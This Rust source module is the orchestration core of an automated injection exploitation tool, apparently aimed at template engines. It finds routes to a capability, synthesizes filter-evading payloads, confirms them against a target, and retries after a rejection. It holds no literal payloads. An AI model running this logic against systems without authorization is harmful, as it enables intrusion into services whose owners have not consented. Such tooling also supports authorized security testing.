//! Exploitation pipeline: resolver routes, synthesis, confirmation

use crate::assembler::PayloadAssembler;
use crate::oracle::Settlement;
use crate::resolver::{Capability, ContextResolver, Route};
use crate::session::Session;
use crate::synth::expr::Expression;
use crate::synth::{BudgetReport, Infeasibility, Synthesis, Synthesizer};
use serde::{Deserialize, Serialize};
use tracing::{info, warn};

/// Final result of one capability request
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "status", rename_all = "snake_case")]
pub enum AttackOutcome {
    /// The target accepted and rendered the payload
    Confirmed {
        payload: String,
        expression: Expression,
        route: String,
        /// Confirmation probes sent, including rejected ones
        confirmations: u32,
    },
    /// No route has an expression under current filter knowledge
    Infeasible { routes: Vec<Infeasibility> },
    /// Some route ran out of search budget and none succeeded
    BudgetExceeded { report: BudgetReport },
    /// Every delimiter style is blocked
    NoDelimiter,
    /// Payloads were synthesized but the target rejected each of them
    Unconfirmed { attempts: Vec<String> },
}

impl AttackOutcome {
    pub fn payload(&self) -> Option<&str> {
        match self {
            AttackOutcome::Confirmed { payload, .. } => Some(payload),
            _ => None,
        }
    }
}

/// A route together with what was synthesized for it
struct Candidate {
    index: usize,
    route: Route,
    expression: Expression,
}

enum Search {
    Found(Candidate),
    Failed {
        infeasible: Vec<Infeasibility>,
        budget: Option<BudgetReport>,
    },
}

pub struct Exploiter<'s> {
    session: &'s Session,
    resolver: ContextResolver,
}

impl<'s> Exploiter<'s> {
    pub fn new(session: &'s Session) -> Self {
        Self {
            resolver: ContextResolver::new(session.settings().environment)
                .with_arg_param(session.settings().arg_param.clone()),
            session,
        }
    }

    /// Finds, wraps and confirms a payload for `capability`. A rejected
    /// confirmation gets exactly one re-synthesis before giving up.
    pub async fn exploit(&self, capability: &Capability) -> AttackOutcome {
        let routes = self.resolver.routes(capability);
        if routes.is_empty() {
            warn!("No route reaches {capability} in a {:?} environment", self.session.settings().environment);
            return AttackOutcome::Infeasible { routes: Vec::new() };
        }

        let assembler = PayloadAssembler::new(self.session.oracle());
        let Some(delimiter) = assembler.delimiter().await else {
            warn!("Every template delimiter is blocked");
            return AttackOutcome::NoDelimiter;
        };

        let first = match self.search(&routes, None).await {
            Search::Found(candidate) => candidate,
            Search::Failed { infeasible, budget } => return failure(infeasible, budget),
        };

        let mut attempts = Vec::new();
        let mut current = first;
        loop {
            let payload = assembler.wrap(delimiter, &current.expression.text);
            info!("Confirming {} via route '{}'", payload, current.route.name);
            let settlement = match &current.route.extra_param {
                Some((key, value)) if !self.session.oracle().set_extra_param(key, value) => {
                    warn!("Transport cannot send the {key} parameter");
                    Settlement::Rejected
                }
                _ => {
                    assembler
                        .confirm(
                            &payload,
                            &current.expression.text,
                            current.route.expects.as_deref(),
                        )
                        .await
                }
            };
            attempts.push(payload.clone());

            if settlement == Settlement::Accepted {
                return AttackOutcome::Confirmed {
                    payload,
                    expression: current.expression,
                    route: current.route.name,
                    confirmations: attempts.len() as u32,
                };
            }
            if attempts.len() > 1 {
                break;
            }

            warn!("Target rejected {payload}, re-synthesizing without {}", current.expression.root);
            self.session
                .oracle()
                .record_blocked_pattern(&current.expression.text);
            let exclusion = (current.index, current.expression.root);
            match self.search(&routes, Some(exclusion)).await {
                Search::Found(candidate) => current = candidate,
                Search::Failed { .. } => break,
            }
        }

        AttackOutcome::Unconfirmed { attempts }
    }

    /// Tries routes in order until one synthesizes. `exclude` bans a root
    /// construct for one route's goal.
    async fn search(
        &self,
        routes: &[Route],
        exclude: Option<(usize, crate::synth::catalog::ConstructId)>,
    ) -> Search {
        let synthesizer = Synthesizer::new(self.session);
        let budget = self.session.settings().budget;
        let mut infeasible = Vec::new();
        let mut exceeded = None;

        for (index, route) in routes.iter().enumerate() {
            let result = match exclude {
                Some((i, root)) if i == index => {
                    synthesizer
                        .synthesize_excluding(&route.goal, budget, &[root])
                        .await
                }
                _ => synthesizer.synthesize(&route.goal, budget).await,
            };
            match result {
                Synthesis::Found(expression) => {
                    return Search::Found(Candidate {
                        index,
                        route: route.clone(),
                        expression,
                    })
                }
                Synthesis::Infeasible(report) => {
                    info!("Route '{}' is infeasible", route.name);
                    infeasible.push(report);
                }
                Synthesis::BudgetExceeded(report) => {
                    warn!("Route '{}' exceeded the search budget", route.name);
                    exceeded.get_or_insert(report);
                }
            }
        }

        Search::Failed {
            infeasible,
            budget: exceeded,
        }
    }
}

fn failure(infeasible: Vec<Infeasibility>, budget: Option<BudgetReport>) -> AttackOutcome {
    match budget {
        Some(report) => AttackOutcome::BudgetExceeded { report },
        None => AttackOutcome::Infeasible { routes: infeasible },
    }
}
